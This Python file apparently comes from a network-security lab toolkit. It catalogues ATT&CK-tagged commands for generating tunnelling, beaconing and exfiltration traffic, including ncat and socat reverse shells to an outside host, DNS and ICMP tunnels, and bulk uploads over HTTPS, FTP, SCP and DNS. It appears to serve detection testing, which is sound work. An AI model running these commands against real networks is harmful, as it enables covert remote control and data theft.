"""What goes out: tunnels T1572, command and control T1071, T1095, T1571, T1568, exfiltration T1048."""
from labkit.attack import Attack

_SITE, _OUTSIDE = ("site",), ("outside",)
_QUIETLY = "curl --silent --insecure --output /dev/null"


def _calls(name, technique, command, number, pause, victims=_SITE):
    return Attack(name, technique, f"for i in $(seq {number}); do {command} & sleep {pause}; done", victims=victims, seconds=50)


def _jitter(percent):
    """1.3 s, more or less."""
    return f"$(awk -v seed=$RANDOM 'BEGIN {{{{srand(seed); print 1.3 * (1 + {percent / 100} * (2 * rand() - 1))}}}}')"


_DNS2TCPD = ("printf 'listen = {outside}\\nport = 5353\\nuser = nobody\\nchroot = {folder}/empty\\ndomain = d.lab.test\\n"
             "resources = ssh:198.51.100.1:22\\n' > {folder}/dns2tcpd.conf; mkdir {folder}/empty; dns2tcpd -F -f {folder}/dns2tcpd.conf")
_SHELL_COMMANDS = "(for i in $(seq 25); do echo 'id; ls /; ps'; sleep 1; done)"

ENTRIES = [
    Attack("iodine-tunnel", "T1071.004", "iodine -f -r -P secret {resolver} t.lab.test & sleep 5; ping -n -i 0.2 -s 400 -c 100 192.168.99.1",
           other_end="iodined -f -c -P secret 192.168.99.1/27 t.lab.test", victims=("resolver",)),
    Attack("iodine-idle-tunnel", "T1071.004", "iodine -f -r -P secret {resolver} t.lab.test", other_end="iodined -f -c -P secret "
           "192.168.99.1/27 t.lab.test", victims=("resolver",)),
    Attack("dns2tcp-tunnel", "T1071.004", "dns2tcpc -z d.lab.test -r ssh -l 2200 {resolver} & sleep 2; "
           "{ssh} -p 2200 root@127.0.0.1 'head -c 60000 /dev/urandom | base64'", other_end=_DNS2TCPD, victims=("resolver",)),
    Attack("ptunnel-icmp", "T1572", "ptunnel-ng -p{outside} -l8000 -r198.51.100.1 -R22 & sleep 2; "
           "{ssh} -p 8000 root@127.0.0.1 'head -c 300000 /dev/urandom | base64'", other_end="ptunnel-ng", victims=_OUTSIDE),
    Attack("ssh-socks-tunnel", "T1572", "{ssh} -N -D 1080 root@{site} & sleep 2; for i in $(seq 10); do curl --silent --socks5 "
           "127.0.0.1:1080 --output /dev/null http://{target}/photo.jpg; sleep 1; done", victims=_SITE),
    Attack("ssh-reverse-tunnel", "T1572", "{ssh} -N -R 2222:127.0.0.1:22 root@{site}", victims=_SITE),
    Attack("gre-tunnel", "T1572", "ip link add tunnel type gre local {attacker} remote {outside} && ip address add 192.168.98.2/24 dev "
           "tunnel && ip link set tunnel up && ping -n -i 0.1 -s 1000 -c 200 192.168.98.1; ip link delete tunnel",
           other_end="ip link add tunnel type gre local {outside} remote {attacker} && ip address add 192.168.98.1/24 dev tunnel && "
           "ip link set tunnel up && sleep 60", victims=_OUTSIDE),
    Attack("ncat-reverse-shell", "T1571", "ncat {outside} 4444 -e /bin/sh", other_end=f"{_SHELL_COMMANDS} | ncat -l 4444",
           victims=_OUTSIDE),
    Attack("socat-tls-shell", "T1573.002", "socat exec:/bin/sh openssl:{outside}:8443,verify=0", victims=_OUTSIDE,
           other_end=f"{_SHELL_COMMANDS} | socat - openssl-listen:8443,cert={{folder}}/certificate.pem,key={{folder}}/key.pem,verify=0"),
    _calls("curl-http-beacon", "T1071.001", _QUIETLY + " http://{site}/style.css", 36, 1.2),
    _calls("curl-https-beacon", "T1071.001", _QUIETLY + " https://{site}/style.css", 36, 1.2),
    _calls("curl-https-beacon-jitter-20", "T1071.001", _QUIETLY + " https://{site}/style.css", 36, _jitter(20)),
    _calls("curl-https-beacon-jitter-50", "T1071.001", _QUIETLY + " https://{site}/style.css", 36, _jitter(50)),
    _calls("curl-https-beacon-5s", "T1071.001", _QUIETLY + " https://{site}/style.css", 8, 5),
    _calls("curl-beacon-odd-port", "T1571", _QUIETLY + " http://{site}:31337/style.css", 36, 1.2),
    _calls("dig-txt-beacon", "T1071.004", "dig @{resolver} +tries=1 +short c$i.t.lab.test TXT", 36, 1.2, ("resolver",)),
    _calls("ping-beacon", "T1095", "ping -n -c 1 -s 200 {outside}", 36, 1.2, _OUTSIDE),
    _calls("udp-beacon", "T1095", "echo $i | ncat --udp --send-only {outside} 5555", 36, 1.2, _OUTSIDE),
    _calls("dga-lookups", "T1568.002", "dig @{resolver} +tries=1 +short $(echo $i | md5sum | cut -c 1-12).test", 60, 0.4, ("resolver",)),
    Attack("tool-download", "T1105", "for i in 1 2 3; do curl --silent --output /dev/null http://{site}:8080/photo.jpg; sleep 3; done",
           victims=_SITE),
    Attack("https-bulk-upload", "T1048.002", "for i in 1 2 3; do curl --silent --insecure -T {folder}/large.bin https://{site}/upload; done",
           victims=_SITE),
    Attack("https-trickle-upload", "T1048.002", "curl --silent --insecure --limit-rate 40k -T {folder}/large.bin https://{site}/upload",
           victims=_SITE),
    Attack("http-post-chunks", "T1048.003", "for i in $(seq 60); do head -c 3000 /dev/urandom | base64 | curl --silent --output /dev/null "
           "--data @- http://{site}/upload; sleep 0.4; done", victims=_SITE),
    Attack("dns-label-exfiltration", "T1048.003", "for i in $(seq 200); do dig @{resolver} +tries=1 +time=1 +short "
           "$(echo $i | sha256sum | cut -c 1-60).t.lab.test & sleep 0.1; done; wait", victims=("resolver",)),
    Attack("dns-short-label-exfiltration", "T1048.003", "for i in $(seq 250); do dig @{resolver} +tries=1 +time=1 +short "
           "$(echo $i | sha256sum | cut -c 1-16).t.lab.test & sleep 0.1; done; wait", victims=("resolver",)),
    Attack("icmp-exfiltration", "T1048.003", "hping3 --quiet --icmp --data 1000 --file {paper} --interval u50000 {outside}", victims=_OUTSIDE),
    Attack("ftp-bulk-upload", "T1048.003", "for i in 1 2 3; do curl --silent --user {user}:{password} -T {folder}/large.bin ftp://{site}/; done",
           victims=_SITE),
    Attack("scp-bulk-upload", "T1048.002", "for i in 1 2 3; do scp {ssh_options} {folder}/large.bin root@{site}:/dev/null; done", victims=_SITE),
    Attack("ncat-bulk-odd-port", "T1048.003", "for i in 1 2; do ncat --send-only {outside} 4445 < {folder}/large.bin; done",
           other_end="ncat -k -l 4445 > /dev/null", victims=_OUTSIDE),
    Attack("ncat-udp-bulk", "T1048.003", "for i in $(seq 20); do head -c 400000 {folder}/large.bin | ncat --udp --send-only {outside} 4446; "
           "sleep 0.5; done", other_end="ncat -k --udp -l 4446 > /dev/null", victims=_OUTSIDE),
    Attack("mail-attachments", "T1048.003", "for i in $(seq 10); do swaks --silent 3 --server {target} --auth-user {user} --auth-password "
           "{password} --from a@lab.test --to b@example.test --attach {paper}; sleep 1; done"),
]
